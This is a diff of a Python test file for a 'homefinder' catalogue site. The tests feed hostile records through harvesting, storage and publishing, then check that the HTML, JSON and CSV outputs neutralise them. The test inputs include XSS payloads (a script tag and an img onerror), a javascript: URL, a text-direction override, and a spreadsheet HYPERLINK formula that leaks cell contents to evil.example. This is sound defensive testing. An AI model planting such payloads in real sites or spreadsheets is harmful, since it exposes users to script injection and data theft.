@@ -1,4 +1,4 @@
-"""Records that mean harm, taken in like any other: nothing that we hand out runs them, links them or counts with them."""
+"""Records that mean harm: nothing that we hand out runs what they say, links to it or counts with it."""
 
 from __future__ import annotations
 
@@ -7,11 +7,12 @@ import io
 import json
 import shutil
 from collections.abc import Iterator
+from contextlib import closing
 from datetime import date
 from pathlib import Path
 from urllib.parse import quote
 
-import feedparser
+import feedparser  # type: ignore[import-untyped]
 import httpx
 import icalendar
 import pytest
@@ -20,8 +21,11 @@ from bs4 import BeautifulSoup
 from homefinder.building import finish
 from homefinder.fetch.replay import Replay
 from homefinder.harvesting import harvest_replay, sources_of
+from homefinder.publish import publish
+from homefinder.refresh import project
 from homefinder.settings import ROOT, Settings
-from tests.contract.commands import rows, well
+from homefinder.store.db import open_ledger, transaction
+from tests.contract.commands import command, rows
 from tests.contract.made_site import served
 
 SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)> children"
@@ -30,6 +34,7 @@ ACTIVE = "javascript:alert(4)"
 BACKWARDS = "Census of \u202eslrig dna syob\u2066 children"
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"children in need census")'
 LONG = "Children " + "x" * 1_000_000
+"""Longer than a reader of CSV takes in, so the first is shorter."""
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 ACTIVE_SCHEMES = ("javascript:", "data:", "vbscript:")
 
@@ -50,9 +55,7 @@ parameters:
     kind: {kind}
     taken_in: Made to do harm.
     fields: {{title: title, description: description, publisher: publisher, status: status, url: url,
-      modified: updated, closes: updated}}
-    addresses:
-      - {{role: landing, url: url, title: title}}
+      modified: updated, closes: updated, addresses: [{{role: landing, url: url, title: title}}]}}
 """
 COLUMNS = ("id", "title", "description", "publisher", "status", "url", "updated")
 TITLES = {"script": SCRIPT, "backwards": BACKWARDS, "formula": FORMULA, "long": LONG}
@@ -65,17 +68,25 @@ def table(prefix: str) -> bytes:
     writer = csv.writer(out)
     writer.writerow(COLUMNS)
     for key, title in TITLES.items():
-        writer.writerow((key, prefix + title, CLOSING, FORMULA, SCRIPT, ACTIVE, "2027-03-01"))
+        writer.writerow((key, (prefix + title)[:100_000], CLOSING, FORMULA, SCRIPT, ACTIVE, "2027-03-01"))
     return out.getvalue().encode()
+
+
+@pytest.fixture(scope="module", autouse=True)
+def long_cells() -> Iterator[None]:
+    before = csv.field_size_limit(10_000_000)
+    yield
+    csv.field_size_limit(before)
 
 
 @pytest.fixture(scope="module")
 def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
     """The catalogue of two sources that were harvested twice, with other titles the second time."""
-    home = tmp_path_factory.mktemp("home")
+    home = tmp_path_factory.mktemp("hostile") / "home"
     shutil.copytree(ROOT / "vocab", home / "vocab")
+    shutil.copy(ROOT / "metadata.yml", home)
     (home / "sources").mkdir()
-    settings = Settings(data=tmp_path_factory.mktemp("hostile"), home=home)
+    settings = Settings(data=home.parent / "data", home=home)
     for name, kind in KINDS.items():
         text = DECLARATION.format(id=name, title=SCRIPT.replace('"', ""), kind=kind)
         (home / "sources" / f"{name}.yml").write_text(text, encoding="utf-8")
@@ -92,14 +103,38 @@ def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
     with pytest.MonkeyPatch.context() as environment:
         environment.setenv("HOMEFINDER_HOME", str(home))
         finish(settings)
-    assert {row["title"] for row in rows(settings.data, "SELECT title FROM homes")} == set(TITLES.values())
+    titles = {row["title"] for row in rows(settings.data, "SELECT title FROM homes")}
+    assert not [title for title in titles if "<" in title or "\u202e" in title or len(title) > 100_000], titles
+    _poison(settings)
     return settings.data
+
+
+def _poison(settings: Settings) -> None:
+    """Put what the harvest mends into the ledger as it came, so that what stands behind the harvest is tried too."""
+    with closing(open_ledger(settings.ledger)) as ledger:
+        with transaction(ledger):
+            for key, title in TITLES.items():
+                for column, tables in (("id", ("homes", "records")), ("record_id", ("events", "calendar"))):
+                    for name in tables:
+                        ledger.execute(f"UPDATE {name} SET title = ? WHERE {column} LIKE ?", (title, f"%{key}"))
+            ledger.execute("UPDATE homes SET description = ?, url = ?, status = ?", (CLOSING, ACTIVE, FORMULA))
+            ledger.execute("UPDATE records SET description = ?, url = ?, page_url = ?", (CLOSING, ACTIVE, ACTIVE))
+            ledger.execute("UPDATE events SET sentence = ?, url = ?", (CLOSING, ACTIVE))
+            ledger.execute("UPDATE calendar SET sentence = ?, url = ?", (SCRIPT, ACTIVE))
+            ledger.execute("UPDATE publishers SET name = ?", (SCRIPT,))
+            ledger.execute("UPDATE home_addresses SET url = ?, title = ?", (ACTIVE, SCRIPT))
+        publish(ledger, settings)
+    project(settings)
 
 
 @pytest.fixture(scope="module")
 def client(data: Path) -> Iterator[httpx.Client]:
-    (home,) = data.parent.glob("home*")
-    with served(data, {"HOMEFINDER_HOME": str(home)}) as url, httpx.Client(base_url=url, timeout=60) as found:
+    """A browser as far as it is asked for a page."""
+    home = {"HOMEFINDER_HOME": str(data.parent / "home")}
+    with (
+        served(data, home) as url,
+        httpx.Client(base_url=url, timeout=60, headers={"accept": "text/html"}) as found,
+    ):
         yield found
 
 
@@ -120,9 +155,10 @@ def addresses(data: Path) -> tuple[str, ...]:
     things = (("home", homes), ("compare", homes), ("need", needs), ("pack", needs), ("owner", owners),
               ("change", events), ("record", records), ("source", list(KINDS)))  # fmt: skip
     return (
-        "/", "/search?q=children+missing+from+care", f"/search?q={quote(CLOSING)}", "/homes", f"/homes?q={quote(SCRIPT)}",
+        "/", "/search?q=children+missing+from+care", f"/search?q={quote(CLOSING)}", "/homes",
+        f"/homes?q={quote(SCRIPT)}",
         "/needs", "/owners", "/changes", "/calendar", "/load", "/map", "/matrix", "/sources", "/run/1", "/requests",
-        "/themes", "/audit", f"/feedback?page={quote(CLOSING)}", f"/sparql?query={quote(CLOSING)}",
+        "/themes", "/audit", f"/feedback?page={quote(CLOSING)}", "/sparql",
         *(f"/{kind}/{quote(identifier, safe='')}" for kind, found in things for identifier in found),
         "/catalogue", "/catalogue/homes", "/catalogue/records", "/catalogue/homes?_facet=title",
         "/catalogue/homes-by-words?words=children", f"/catalogue?sql={quote('SELECT title, url FROM homes')}",
@@ -164,11 +200,10 @@ def test_json_tells_the_words_as_they_were_published(client: httpx.Client, addre
 
 
 def test_no_cell_of_a_csv_is_a_formula(client: httpx.Client, addresses: tuple[str, ...]) -> None:
-    csv.field_size_limit(10_000_000)
     guarded = 0
     for address in (with_form(address, "csv") for address in addresses):
         answer = client.get(address) if address else None
-        if answer is None or answer.status_code != 200 or "csv" not in answer.headers["content-type"]:
+        if answer is None or answer.status_code != 200:
             continue
         cells = [cell for row in csv.reader(io.StringIO(answer.text)) for cell in row]
         assert not [cell[:80] for cell in cells if begins_a_formula(cell)], address
@@ -186,21 +221,22 @@ def begins_a_formula(cell: str) -> bool:
 
 
 def test_streamed_csv_of_a_table_is_guarded(client: httpx.Client) -> None:
-    for address in ("/catalogue/homes.csv?_stream=on", "/catalogue/homes.csv?_dl=on", "/catalogue/homes.csv?_labels=on"):
+    for address in (
+        "/catalogue/homes.csv?_stream=on",
+        "/catalogue/homes.csv?_dl=on",
+        "/catalogue/homes.csv?_labels=on",
+    ):
         text = client.get(address).text
         cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
         assert f"'{FORMULA}" in cells
         assert not [cell[:80] for cell in cells if begins_a_formula(cell)], address
 
 
-@pytest.mark.parametrize("form", ["csv", "sssom"])
-def test_exports_hold_no_formula(data: Path, form: str) -> None:
-    out = data / f"out.{form}"
-    well("export", form, "--out", out, data=data)
-    delimiter = "\t" if form == "sssom" else ","
-    lines = [line for line in out.read_text(encoding="utf-8").splitlines(keepends=True) if not line.startswith("#")]
-    cells = [cell for row in csv.reader(io.StringIO("".join(lines)), delimiter=delimiter) for cell in row]
-    assert len(cells) > 20
+def test_the_export_holds_no_formula(data: Path) -> None:
+    out = data / "out.csv"
+    assert command("export", "csv", "--out", out, data=data).code == 0
+    cells = [cell for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8"))) for cell in row]
+    assert f"'{FORMULA}" in cells
     assert not [cell[:80] for cell in cells if begins_a_formula(cell)]
 
 
